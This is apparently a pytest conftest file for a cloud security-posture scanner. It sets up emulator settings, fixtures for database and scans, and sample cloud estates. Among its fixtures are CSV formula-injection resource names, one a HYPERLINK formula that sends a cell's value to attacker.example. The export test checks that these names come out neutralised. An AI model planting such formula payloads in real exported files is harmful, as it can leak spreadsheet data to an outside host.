from __future__ import annotations

import json
import os
import socket
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from posture.inventory.accounts import AccountInput, create_account

# The local emulators listen on loopback; user-supplied URLs may reach it in the tests (and their subprocesses).
LOOPBACK = ["127.0.0.0/8", "::1/128"]
os.environ["POSTURE_ALLOWED_NETWORKS"] = ",".join(LOOPBACK)
# Scans started from a page run in the request, as the tests expect; tests of the background worker turn it on.
os.environ.setdefault("POSTURE_SCAN_IN_BACKGROUND", "0")
# moto creates its thousands of default AMIs for every region of every account it is asked about, and creates
# them again at every reset (about 0.2 s a region, 6.5 s for 34 regions of 3 accounts): no test uses them.
os.environ.setdefault("MOTO_EC2_LOAD_DEFAULT_AMIS", "false")


@pytest.fixture(scope="session", autouse=True)
def one_round_password_hashing() -> None:
    """Users are made with a password in over a thousand fixtures: hash it once, not a million times."""
    from django.conf import settings
    from django.contrib.auth.hashers import get_hashers, get_hashers_by_algorithm

    settings.PASSWORD_HASHERS = ["tests.support.hashers.OneRoundPBKDF2PasswordHasher"]
    get_hashers.cache_clear()
    get_hashers_by_algorithm.cache_clear()


@pytest.fixture(autouse=True)
def moto_settings_restored() -> Iterator[None]:
    """moto reads its settings from the environment, and the demo's emulator sets them for its whole process
    (AWS managed policies loaded in every account): a test that started it leaves the environment as it was, or
    every later moto account of the worker loads 1,582 policies per partition, and again at every reset."""
    before = {name: value for name, value in os.environ.items() if name.startswith("MOTO_")}
    yield
    for name in [name for name in os.environ if name.startswith("MOTO_") and name not in before]:
        del os.environ[name]
    os.environ.update(before)


@pytest.fixture(autouse=True)
def loopback_allowed(settings):
    settings.ALLOWED_NETWORKS = LOOPBACK
    settings.SCAN_IN_BACKGROUND = False


@pytest.fixture(autouse=True)
def background_drained():
    """A test that ran scans in the background thread ends only when that thread is idle: its work after a
    scan turns final (the path rebuild) must not meet the next test's emptied database."""
    yield
    from posture.scans import background

    assert background.wait_idle(60), "the background scan thread did not finish within 60 s"


@pytest.fixture(autouse=True)
def fresh_compliance_memo():
    """Rolled-back tests reuse scan ids (SQLite), which a real database never does: forget earlier answers."""
    from posture.findings.compliance import MEMO

    MEMO.clear()


def estate_doc(public: bool = True, mfa: bool = False, fail: list[dict] | None = None) -> dict[str, Any]:
    """Two regions of buckets and one global user; ``public``/``mfa`` flip the verdicts."""
    return {
        "id": "test-0001",
        "regions": ["r1", "r2"],
        "resources": [
            {
                "service": "storage",
                "region": "r1",
                "type": "testcloud.storage.bucket",
                "uid": "b-public",
                "config": {"public": public, "size": 1},
            },
            {
                "service": "storage",
                "region": "r1",
                "type": "testcloud.storage.bucket",
                "uid": "b-private",
                "config": {"public": False},
            },
            {
                "service": "storage",
                "region": "r2",
                "type": "testcloud.storage.bucket",
                "uid": "b-r2",
                "config": {"public": False},
            },
            {"service": "iam", "type": "testcloud.iam.user", "uid": "u-alice", "config": {"mfa": mfa}},
        ],
        "fail": fail or [],
    }


# Resource names a cloud allows that a spreadsheet would run as formulas, and one it would not.
FORMULA_NAMES = {
    "b-public": '=HYPERLINK("http://attacker.example/?x="&A1,"open")',
    "b-private": "+1",
    "b-r2": "-2+3",
    "u-alice": "@SUM(1)",
}
HARMLESS_NAME = "team=red"


def formula_estate_doc() -> dict[str, Any]:
    """estate_doc() with FORMULA_NAMES as names, and one more bucket named HARMLESS_NAME."""
    doc = estate_doc()
    for item in doc["resources"]:
        item["name"] = FORMULA_NAMES[item["uid"]]
    harmless = {"uid": "b-harmless", "name": HARMLESS_NAME, "config": {"public": False}}
    doc["resources"].append({"service": "storage", "region": "r1", "type": "testcloud.storage.bucket", **harmless})
    return doc


def assert_csv_formulas_inert(text: str) -> None:
    """Every FORMULA_NAMES name comes out behind a quote; HARMLESS_NAME as it is."""
    import csv
    import io

    names = {row["resource_uid"]: row["resource_name"] for row in csv.DictReader(io.StringIO(text))}
    assert names == {**{uid: "'" + name for uid, name in FORMULA_NAMES.items()}, "b-harmless": HARMLESS_NAME}


class EstateFile:
    def __init__(self, path: Path) -> None:
        self.path = path
        self.write(estate_doc())

    def write(self, doc: dict[str, Any]) -> None:
        self.path.write_text(json.dumps(doc))


@pytest.fixture
def estate(tmp_path: Path) -> EstateFile:
    return EstateFile(tmp_path / "estate.json")


@pytest.fixture
def account(db, estate: EstateFile):
    return create_account(
        AccountInput(provider="testcloud", name="test-account", regions=[], credentials={"estate": str(estate.path)}),
        source="cli",
    )


def scanned_team_accounts(estate: EstateFile, teams: tuple[str, ...] = ("red", "blue", "")) -> dict[str, Any]:
    """One scanned test-cloud account per team: acct-<team>, or acct-shared for the one no team owns."""
    from posture.scans.pipeline import create_scan, run_scan

    accounts = {}
    for team in teams:
        account = create_account(
            AccountInput(
                provider="testcloud",
                name=f"acct-{team or 'shared'}",
                regions=[],
                credentials={"estate": str(estate.path)},
                team=team,
            )
        )
        run_scan(create_scan(account).pk)
        accounts[team] = account
    return accounts


def service_up(host: str, port: int) -> bool:
    try:
        with socket.create_connection((host, port), timeout=1):
            return True
    except OSError:
        return False


def require_service(host: str, port: int, what: str) -> None:
    """Skip without the service, unless CI says services must be there (then fail)."""
    if service_up(host, port):
        return
    message = f"{what} is not reachable on {host}:{port}"
    if os.environ.get("POSTURE_REQUIRE_SERVICES") == "1":
        pytest.fail(message)
    pytest.skip(message)
